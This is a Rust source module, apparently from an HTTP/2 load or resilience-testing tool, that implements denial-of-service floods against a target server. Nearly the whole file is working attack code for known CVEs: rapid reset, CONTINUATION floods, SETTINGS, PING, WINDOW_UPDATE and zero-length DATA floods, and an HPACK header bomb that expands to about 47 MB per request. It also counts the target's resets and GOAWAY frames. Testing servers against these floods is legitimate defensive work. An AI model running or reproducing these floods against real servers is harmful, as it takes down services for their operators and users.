//! Floods of HTTP/2 frames: each a connection that writes as fast as the target reads.

use std::pin::pin;
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _, BufReader};
use tokio::time::timeout;

use super::context::Context;
use super::dial::Speaks;
use super::frame::{
    self, CANCEL, Head, Name, PAYLOAD_MAX, PREFACE, STREAM_MAX, flag, kind, setting, write_literal, write_remembered,
    write_settings,
};

/// Frames of one write: some tens of kilobytes.
const BATCH: u64 = 500;
/// What a target said before it closed is still on its way when a write fails.
const LAST_WORDS: Duration = Duration::from_millis(100);
/// Bytes of the header that a bomb repeats; with its name and 32 bytes it fits the 4,096 of a table (RFC 7541, section 4.1).
const BOMB_BYTES: usize = 3_900;
/// How often one block names it: with the header itself a block still fits one frame.
const BOMB_REPEATS: usize = 12_000;

/// Whether a connection looks at what the target says.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Answers {
    Read,
    /// The target cannot get rid of them.
    Left,
}

/// How a connection ended.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum End {
    /// By us: there are no streams left.
    Done,
    /// By the target, after everything it had to say.
    Heard,
    /// By the target, in the midst of our writing.
    Cut,
}

impl End {
    fn of_writing(is_done: bool) -> Self {
        if is_done { Self::Done } else { Self::Cut }
    }
}

/// CVE-2023-44487: a cancelled stream does not count as open, but the request was made.
pub(super) async fn rapid_reset(context: &Context) {
    let block = context.request("GET").block();
    let mut stream = 1;
    flood(context, Answers::Read, |out| {
        let mut pairs = 0;
        while pairs < BATCH && stream < STREAM_MAX {
            frame::write(out, kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, stream, &block);
            frame::write(out, kind::RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
            stream += 2;
            pairs += 1;
        }
        pairs
    })
    .await;
}

/// CVE-2024-27316: a block without `END_HEADERS`, in frames with a header each or with nothing.
pub(super) async fn continuation(context: &Context, is_empty: bool) {
    let block = context.request("GET").block();
    let mut header = Vec::new();
    if !is_empty {
        write_literal(&mut header, Name::Full(b"x-flood"), &[b'a'; 200]);
    }
    let mut is_open = false;
    flood(context, Answers::Read, |out| {
        if !is_open {
            frame::write(out, kind::HEADERS, flag::END_STREAM, 1, &block);
            is_open = true;
        }
        repeat(out, |out| frame::write(out, kind::CONTINUATION, 0, 1, &header))
    })
    .await;
}

/// CVE-2019-9515: each asks for an answer.
pub(super) async fn settings(context: &Context, leaves_answers: bool) {
    let mut window = 65_535;
    flood(context, answers(leaves_answers), |out| {
        repeat(out, |out| {
            // Another value each time, or there would be nothing to do.
            window ^= 1;
            write_settings(out, &[(setting::INITIAL_WINDOW_SIZE, window)]);
        })
    })
    .await;
}

/// CVE-2019-9512: each asks for an answer.
pub(super) async fn ping(context: &Context, leaves_answers: bool) {
    flood(context, answers(leaves_answers), |out| repeat(out, |out| frame::write(out, kind::PING, 0, 0, b"tidegate")))
        .await;
}

/// A byte more, for the connection and for a stream whose request never ends.
pub(super) async fn window_update(context: &Context) {
    let block = context.request("POST").block();
    let mut number = 0_u32;
    flood(context, Answers::Read, |out| {
        if number == 0 {
            frame::write(out, kind::HEADERS, flag::END_HEADERS, 1, &block);
        }
        repeat(out, |out| {
            number = number.wrapping_add(1);
            frame::write(out, kind::WINDOW_UPDATE, 0, number % 2, &1_u32.to_be_bytes());
        })
    })
    .await;
}

/// CVE-2019-9518: empty frames use up no window.
pub(super) async fn zero_length_data(context: &Context) {
    let block = context.request("POST").block();
    let mut is_open = false;
    flood(context, Answers::Read, |out| {
        if !is_open {
            frame::write(out, kind::HEADERS, flag::END_HEADERS, 1, &block);
            is_open = true;
        }
        repeat(out, |out| frame::write(out, kind::DATA, 0, 1, b""))
    })
    .await;
}

/// CVE-2016-6581: a request a frame, each of some 47 MB when it is unpacked.
pub(super) async fn header_bomb(context: &Context) {
    /// The first entry of the dynamic table, in one byte (RFC 7541, sections 2.3.3 and 6.1).
    const NEWEST: u8 = 0x80 + 62;
    let mut stream = 1;
    let request = context.request("GET").block();
    flood(context, Answers::Read, |out| {
        if stream >= STREAM_MAX {
            return 0;
        }
        let mut block = request.clone();
        if stream == 1 {
            write_remembered(&mut block, Name::Full(b"x-bomb"), &[b'a'; BOMB_BYTES]);
        }
        block.resize((block.len() + BOMB_REPEATS).min(PAYLOAD_MAX), NEWEST);
        frame::write(out, kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, stream, &block);
        stream += 2;
        1
    })
    .await;
}

fn answers(leaves_answers: bool) -> Answers {
    if leaves_answers { Answers::Left } else { Answers::Read }
}

/// A batch of the same frame.
fn repeat(out: &mut Vec<u8>, mut write: impl FnMut(&mut Vec<u8>)) -> u64 {
    for _ in 0..BATCH {
        write(out);
    }
    BATCH
}

/// One connection: preface and settings, then what `fill` appends, until the target closes or `fill` has no more.
async fn flood(context: &Context, answers: Answers, mut fill: impl FnMut(&mut Vec<u8>) -> u64) {
    let Some((link, _open)) = context.open(Speaks::Http2, None).await else { return };
    let (reader, mut writer) = tokio::io::split(link);
    let write = async {
        let mut batch = PREFACE.to_vec();
        // Statuses must not come from a table, which nobody here keeps.
        write_settings(&mut batch, &[(setting::HEADER_TABLE_SIZE, 0)]);
        loop {
            let attempts = fill(&mut batch);
            if attempts == 0 || writer.write_all(&batch).await.is_err() || writer.flush().await.is_err() {
                return attempts == 0;
            }
            context.note(|tally| {
                tally.attempts += attempts;
                tally.bytes_sent += batch.len() as u64;
            });
            batch.clear();
        }
    };
    let mut read = pin!(read_frames(context, reader));
    let end = if answers == Answers::Read {
        tokio::select! {
            () = &mut read => End::Heard,
            is_done = write => End::of_writing(is_done),
        }
    } else {
        End::of_writing(write.await)
    };
    if end == End::Done {
        return;
    }
    context.note(|tally| tally.closed_by_target += 1);
    if end == End::Cut {
        // What it said before it closed may still be read.
        let _ = timeout(LAST_WORDS, read).await;
    }
}

/// Reads and counts what the target says, until it closes or speaks something else.
pub(super) async fn read_frames(context: &Context, reader: impl AsyncRead + Unpin) {
    let mut reader = BufReader::with_capacity(PAYLOAD_MAX, reader);
    let mut payload = vec![0; PAYLOAD_MAX];
    loop {
        let mut head = [0; Head::BYTES];
        if reader.read_exact(&mut head).await.is_err() {
            return;
        }
        if &head == b"HTTP/1.1 " {
            note_status_line(context, &mut reader).await;
            return;
        }
        let head = Head::read(&head);
        let Some(payload) = payload.get_mut(..head.length) else { return };
        if reader.read_exact(payload).await.is_err() {
            return;
        }
        let payload = &*payload;
        context.note(|tally| match head.kind {
            kind::HEADERS => {
                if let Some(status) = frame::status(head, payload) {
                    tally.status(status);
                }
            }
            kind::RST_STREAM => tally.reset(frame::error_code(payload, 0).unwrap_or(u32::MAX)),
            kind::GOAWAY => tally.goaway(frame::error_code(payload, 4).unwrap_or(u32::MAX)),
            _ => {}
        });
    }
}

/// A server that speaks no HTTP/2 here says so in HTTP/1.1.
async fn note_status_line(context: &Context, reader: &mut (impl AsyncRead + Unpin)) {
    let mut digits = [0; 3];
    if reader.read_exact(&mut digits).await.is_ok()
        && let Some(status) = std::str::from_utf8(&digits).ok().and_then(|digits| digits.parse().ok())
    {
        context.note(|tally| tally.status(status));
    }
}
